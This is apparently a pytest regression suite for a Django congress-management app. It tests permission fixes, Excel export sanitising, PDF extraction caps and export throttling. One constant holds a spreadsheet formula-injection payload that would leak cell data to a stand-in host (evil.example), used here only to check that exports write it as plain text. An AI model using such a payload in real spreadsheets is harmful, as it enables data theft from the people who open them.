"""Defects found in review (issue 11, item 1): each test fails before its fix."""

from __future__ import annotations

import pytest

from renda.core import services
from renda.core.models import Congress

pytestmark = pytest.mark.django_db


# --- 1. The congress tree cut by its own staff ------------------------------------------


def congress_post(congress, **changes):
    """What the edit form posts for `congress`, with `changes` applied ("" = an empty select)."""
    data = {
        "region": congress.region,
        "code": congress.code,
        "level": congress.level,
        "parent": congress.parent_id or "",
        "has_standing_committee": "on" if congress.has_standing_committee else "",
        "is_active": "on" if congress.is_active else "",
    }
    data.update(changes)
    return {k: v for k, v in data.items() if v != ""}


def test_county_staff_saving_their_congress_unchanged_keeps_its_parent(client_for, world):
    """Defect 1: the parent select offered only congresses the county's staff manage, so
    saving the form unchanged (the browser sends the empty choice) made the county a
    top-level congress and cut it off from the city's scoping."""
    c = client_for("county_staff")
    page = c.get(f"/work/congresses/{world.county_a.pk}/edit/").content.decode()
    # The fixed parent is shown (not an empty choice the browser would send back).
    assert f'<option value="{world.city.pk}" selected>巴彦淖尔市人民代表大会</option>' in page
    # The browser submits what it shows; a disabled parent sends nothing.
    response = c.post(f"/work/congresses/{world.county_a.pk}/edit/", congress_post(world.county_a, parent=""))
    assert response.status_code == 302
    world.county_a.refresh_from_db()
    assert world.county_a.parent_id == world.city.pk
    assert world.county_a.path == "150800000000/150802000000/"
    # The city's staff still see the county's congress below theirs.
    from renda.core.scoping import actor_of

    assert world.county_a.pk in actor_of(world.users["staff"]).congress_ids("staff")


def test_county_staff_cannot_move_their_congress(client_for, world):
    """Defect 1: a congress's own staff may edit its details but never move it: a parent,
    level or code posted by them is ignored (only those managing the parent move it)."""
    c = client_for("county_staff")
    data = congress_post(world.county_a, parent=world.township_a.pk, region="临河区（改）", code="150802999000")
    response = c.post(f"/work/congresses/{world.county_a.pk}/edit/", data)
    assert response.status_code == 302
    world.county_a.refresh_from_db()
    assert world.county_a.region == "临河区（改）"  # its own details: yes
    assert (world.county_a.parent_id, world.county_a.code) == (world.city.pk, "150802000000")


def test_county_staff_cannot_make_their_code_all_zeros_and_root_stays(client_for, world):
    """Defect 1: a code of all zeros set by the county's staff made root_congress() pick
    the county (public review proposals and the federation identity went there)."""
    c = client_for("county_staff")
    c.post(f"/work/congresses/{world.county_a.pk}/edit/", congress_post(world.county_a, code="000000000000", parent=""))
    world.county_a.refresh_from_db()
    assert world.county_a.code == "150802000000"
    assert services.root_congress() == world.city


def test_congress_code_must_be_a_division_code(client_for, world):
    """Defect 1: codes are administrative division codes (6 or 12 digits, a real province
    prefix, never all zeros); those who may change a code get a Chinese message."""
    c = client_for("staff")  # the city's staff keep the county's place in the tree
    for bad in ("000000000000", "000000", "abc", "1508020000001", "990802000000"):
        response = c.post(f"/work/congresses/{world.county_a.pk}/edit/", congress_post(world.county_a, code=bad))
        assert response.status_code == 200, bad
        assert "区划代码" in response.content.decode()
    world.county_a.refresh_from_db()
    assert world.county_a.code == "150802000000"


def test_root_congress_is_the_top_of_the_tree(world, settings):
    """Defect 1: with RENDA_ROOT_CONGRESS unset, root_congress() took the first top-level
    congress by path; a stray top-level congress of a lower level with a smaller code won."""
    settings.RENDA_ROOT_CONGRESS = ""
    stray = Congress(code="110101000000", region="某区", level="county")
    stray.save()
    assert services.root_congress() == world.city


def test_parent_staff_move_a_congress_and_its_subtree_follows(client_for, world):
    """Defect 1 (rule): those managing the parent may change a child's code or parent; the
    children's paths follow (scoping matches on the path)."""
    c = client_for("staff")
    response = c.post(f"/work/congresses/{world.county_a.pk}/edit/", congress_post(world.county_a, code="150802500000"))
    assert response.status_code == 302
    world.township_a.refresh_from_db()
    assert world.township_a.path == "150800000000/150802500000/150802100000/"


def test_county_staff_add_a_township_through_the_form(client_for, world):
    """Defect 1 (same form): 新增下级人大 refused every new congress (the add check was made
    on the unsaved congress instead of its parent)."""
    c = client_for("county_staff")
    data = {"region": "临河区新华镇", "code": "150802200000", "level": "township", "parent": world.county_a.pk}
    response = c.post("/work/congresses/new/", data)
    assert response.status_code == 302
    new = Congress.objects.get(code="150802200000")
    assert new.parent_id == world.county_a.pk
    # …but not below a congress they do not manage, nor at the top.
    for parent in (world.city.pk, ""):
        data = {"region": "某镇", "code": "150802300000", "level": "township", "parent": parent}
        assert c.post("/work/congresses/new/", {k: v for k, v in data.items() if v}).status_code == 200
    assert not Congress.objects.filter(code="150802300000").exists()


# --- 2. Excel exports ran formulas from user text ----------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def read_back(content: bytes):
    import io

    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_write_workbook_never_writes_formulas():
    """Defect 2: a cell of user text starting with = became a live formula; = + - @ TAB CR
    are written as text (data type 's', quote prefix: editing the cell keeps it text)."""
    from renda.core.excel import write_workbook

    risky = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
    ws = read_back(write_workbook("测试", ["a"] * 7, [risky + ["普通文字"], [42, 3.5]]))
    cells = list(ws[2])
    for cell, text in zip(cells, risky, strict=False):
        assert cell.data_type == "s", cell.value
        assert cell.value == text  # the text itself is kept, not altered
        assert cell.quotePrefix
    assert cells[6].value == "普通文字" and not cells[6].quotePrefix
    assert [c.value for c in ws[3]][:2] == [42, 3.5]  # numbers stay numbers


def test_list_export_writes_a_proposer_formula_as_text(client_for, world):
    """Defect 2 through the real list: a public proposer named =HYPERLINK(…) is exported
    to the review-proposal ledger as text."""
    from factories import add_samples

    add_samples(world)
    proposal = world.samples["proposal"]
    type(proposal).objects.filter(pk=proposal.pk).update(proposer=FORMULA)
    response = client_for("staff").get("/work/filing/proposals/?export=xlsx")
    assert response.status_code == 200
    ws = read_back(response.content)
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


# --- 3. Staff of any congress could edit the shared working-day calendar ----------------


def test_county_staff_cannot_edit_the_shared_calendar(client_for, world):
    """Defect 3: the working-day calendar moves every congress's deadlines; a county's staff
    kept it as well. Only the platform's root congress's staff and administrators do."""
    from renda.core.models import AuditEntry
    from renda.workflow.models import CalendarDay

    override = {"date": "2030-10-08", "is_workday": "", "name": "国庆节"}
    county = client_for("county_staff")
    assert "录入调整" not in county.get("/work/workflow/calendar/").content.decode()
    assert county.post("/work/workflow/calendar/", override).status_code == 403
    assert not CalendarDay.objects.exists()

    city = client_for("staff")
    assert "录入调整" in city.get("/work/workflow/calendar/").content.decode()
    assert city.post("/work/workflow/calendar/", override).status_code == 302
    day = CalendarDay.objects.get()
    assert (str(day.date), day.is_workday) == ("2030-10-08", False)
    entry = AuditEntry.objects.get(model="workflow.CalendarDay")
    assert entry.actor == world.users["staff"]


# --- 4. PDF text extraction with no page, character or time cap --------------------------

LAWCHECK_DATA = __import__("pathlib").Path(__file__).parent / "data" / "lawcheck"


def pdf_of(pages: int, *, text: bool = False) -> bytes:
    """A PDF of `pages` pages: blank ones, or copies of a committed document's pages."""
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    if text:
        source = PdfReader(LAWCHECK_DATA / "45_chuzufangwu.pdf")
        for i in range(pages):
            writer.add_page(source.pages[i % len(source.pages)])
    else:
        for _ in range(pages):
            writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def count_page_reads(monkeypatch):
    from pypdf import PageObject

    calls = []
    original = PageObject.extract_text
    monkeypatch.setattr(PageObject, "extract_text", lambda self, *a, **k: calls.append(1) or original(self, *a, **k))
    return calls


def test_pdf_over_the_page_cap_is_refused_before_reading(settings, monkeypatch):
    """Defect 4: a PDF of any number of pages was read in the request; over
    RENDA_EXTRACT_MAX_PAGES it is refused (in Chinese) without reading a page."""
    from renda.assist.extract import ExtractError, extract_text

    assert settings.RENDA_EXTRACT_MAX_PAGES == 300
    settings.RENDA_EXTRACT_MAX_PAGES = 5
    reads = count_page_reads(monkeypatch)
    with pytest.raises(ExtractError) as exc:
        extract_text(pdf_of(6), "长.pdf")
    assert "页数过多" in str(exc.value) and "5" in str(exc.value)
    assert reads == []


def test_pdf_default_page_cap(monkeypatch):
    """Defect 4: the default cap (300 pages) with a generated 301-page PDF."""
    from renda.assist.extract import ExtractError, extract_text

    reads = count_page_reads(monkeypatch)
    with pytest.raises(ExtractError, match="页数过多"):
        extract_text(pdf_of(301), "长.pdf")
    assert reads == []


def test_pdf_character_cap_stops_reading_early(monkeypatch):
    """Defect 4: the character cap was checked only once every page had been read; reading
    stops at the page that passes it."""
    from renda.assist import extract

    monkeypatch.setattr(extract, "MAX_CHARS", 500)
    reads = count_page_reads(monkeypatch)
    with pytest.raises(extract.ExtractError, match="文件文字过多"):
        extract.extract_text(pdf_of(20, text=True), "多.pdf")
    assert 0 < len(reads) < 20


def test_pdf_time_cap(settings, monkeypatch):
    """Defect 4: reading stops once RENDA_EXTRACT_MAX_SECONDS have passed (checked between
    pages), with a Chinese message."""
    from renda.assist import extract

    settings.RENDA_EXTRACT_MAX_SECONDS = 0
    reads = count_page_reads(monkeypatch)
    with pytest.raises(extract.ExtractError, match="耗时过长"):
        extract.extract_text(pdf_of(4, text=True), "慢.pdf")
    assert len(reads) < 4


def test_upload_over_the_cap_keeps_no_text(settings):
    """Defect 4 through the upload path (workflow.documents.prepare): the file is checked as
    before, no text is stored, and the reason is the Chinese message."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from renda.workflow.documents import prepare

    settings.RENDA_EXTRACT_MAX_PAGES = 2
    prepared = prepare(SimpleUploadedFile("长.pdf", pdf_of(3, text=True), content_type="application/pdf"))
    assert prepared.text == ""
    assert "页数过多" in prepared.text_note


# --- 5. Anonymous users could export whole public lists -----------------------------------


@pytest.fixture
def fresh_throttles():
    from django.core.cache import cache

    cache.clear()
    yield
    cache.clear()


def test_anonymous_users_cannot_export_public_lists(client_for, world, fresh_throttles):
    """Defect 5: ?export=xlsx on a public list gave anyone the whole list as a workbook (a
    cheap way to load the server). Exports are for signed-in users: anonymous visitors are
    sent to sign in and their page has no export link."""
    from django.urls import reverse

    public = client_for("public")
    urls = [reverse(name) for name in ("portal:deputies", "portal:suggestions", "filing_public:index")]
    for url in urls:
        page = public.get(url)
        assert page.status_code == 200, url
        assert "导出Excel" not in page.content.decode(), url
        response = public.get(url + "?export=xlsx")
        assert response.status_code == 302 and response.url.startswith(reverse("login")), url
    # a signed-in user still exports a public list
    signed_in = client_for("deputy")
    assert "导出Excel" in signed_in.get(urls[0]).content.decode()
    response = signed_in.get(urls[0] + "?export=xlsx")
    assert response.status_code == 200 and response.content.startswith(b"PK")


def test_exports_are_throttled_per_user_and_audited(client_for, world, settings, fresh_throttles):
    """Defect 5: exports are counted per user (RENDA_EXPORTS_PER_MINUTE; then 429 with a
    Chinese message) and each export is audited with the list's model and the row count,
    no search text and no rows."""
    from renda.core.models import AuditEntry, Deputy

    settings.RENDA_EXPORTS_PER_MINUTE = 2
    staff = client_for("staff")
    for _ in range(2):
        assert staff.get("/work/deputies/?export=xlsx&q=王").status_code == 200
    refused = staff.get("/work/deputies/?export=xlsx")
    assert refused.status_code == 429
    assert "导出过于频繁" in refused.content.decode()
    # another user has their own count
    assert client_for("admin").get("/work/deputies/?export=xlsx").status_code == 200
    entries = AuditEntry.objects.filter(action="export").order_by("pk")
    assert [e.actor.username for e in entries] == ["staff", "staff", "admin"]
    first = entries[0]
    assert first.model == Deputy._meta.label
    assert first.changes["rows"] == 1  # 王代表
    assert "王" not in str(first.changes)


# --- 6. Earlier fixes each pinned by a test (the ones missing) ----------------------------


def test_merge_is_not_offered_into_another_congress_suggestion(world, client_for):
    """Defect 6 (并案, suggestions.effects.narrow): the existing test kept only the state
    filter honest; a registered, open suggestion of another congress is not offered either,
    nor accepted when posted."""
    from django.core.exceptions import ValidationError

    from renda.suggestions.models import Suggestion
    from renda.workflow.engine import perform
    from test_suggestions import draft, walk_to_handling

    elsewhere = walk_to_handling(world)  # registered and open…
    Suggestion.objects.filter(pk=elsewhere.pk).update(congress=world.county_a)  # …in the county
    other = draft(world, title="关于待并案的建议")
    perform(other, "submit", world.users["deputy"])
    page = client_for("staff").get(f"/work/workflow/case/suggestion/{other.pk}/merge/")
    assert page.status_code == 200
    assert elsewhere.pk not in set(page.context["form"].fields["into"].queryset.values_list("pk", flat=True))
    with pytest.raises(ValidationError) as refused:
        perform(other, "merge", world.users["staff"], {"into": elsewhere.pk, "note": "并案"})
    assert "into" in refused.value.message_dict


def test_an_assisting_unit_of_another_congress_is_refused(world):
    """Defect 6 (交办, suggestions.effects.narrow): only the lead unit's refusal was tested;
    an assisting unit of another congress is refused too (in Chinese), nothing assigned."""
    from django.core.exceptions import ValidationError

    from renda.suggestions.models import Assignment
    from renda.workflow.engine import perform
    from test_suggestions import draft

    s = draft(world)
    perform(s, "submit", world.users["deputy"])
    perform(s, "register", world.users["staff"], {"category": "农牧水利", "published": "on"})
    data = {"lead_unit": world.unit_a.pk, "period": "3", "assisting_units": [world.county_unit.pk]}
    with pytest.raises(ValidationError) as refused:
        perform(s, "assign", world.users["staff"], data)
    assert "选择" in str(refused.value.message_dict["assisting_units"])
    s.refresh_from_db()
    assert s.state == "registered" and not Assignment.objects.filter(suggestion=s).exists()
